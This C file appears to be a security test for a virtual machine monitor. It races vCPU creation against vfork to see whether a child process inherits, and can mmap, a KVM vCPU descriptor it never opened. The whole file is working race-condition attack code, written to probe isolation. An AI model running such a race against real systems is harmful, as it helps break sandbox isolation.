// Threads are made, each with a vCPU whose descriptor lies at the lowest free number for a moment, while another thread calls
// vfork: the child's descriptor table is a copy of that moment.  A descriptor there that nobody opened is a vCPU's; mapped,
// it is the structure that the monitor and KVM talk by.
#include "crowd.h"

// In a vfork child: the lowest number, which nobody has opened.
static int look(void) {
    if (fcntl(3, F_GETFD) < 0)
        return 0;
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, 3, 0);
    return p == MAP_FAILED ? 1 : 2;
}

static void one(void *argument) {
    int won = 0;
    (void)argument;
    for (int fd = 3; fd < 64; fd++)
        close(fd);
    pthread_t t;
    if (pthread_create(&t, NULL, crowd_maker, NULL) != 0)
        attack_broken("pthread_create");
    while (!crowd_over) {
        pid_t pid = vfork();
        if (pid == 0)
            _exit(look());
        int status = 0;
        if (pid > 0)
            waitpid(pid, &status, 0);
        if (pid > 0 && WIFEXITED(status) && WEXITSTATUS(status)) {
            won = WEXITSTATUS(status);
            crowd_over = 1;
        }
    }
    pthread_join(t, NULL);
    _exit(won);
}

int main(void) {
    do {
        int status = attack_child(one, NULL);
        if (WIFEXITED(status) && (WEXITSTATUS(status) == 1 || WEXITSTATUS(status) == 2))
            attack_won("a vfork child holds a descriptor of KVM's%s",
                       WEXITSTATUS(status) == 2 ? ", and has mapped it" : "");
    } while (!attack_over());
    attack_lost();
}
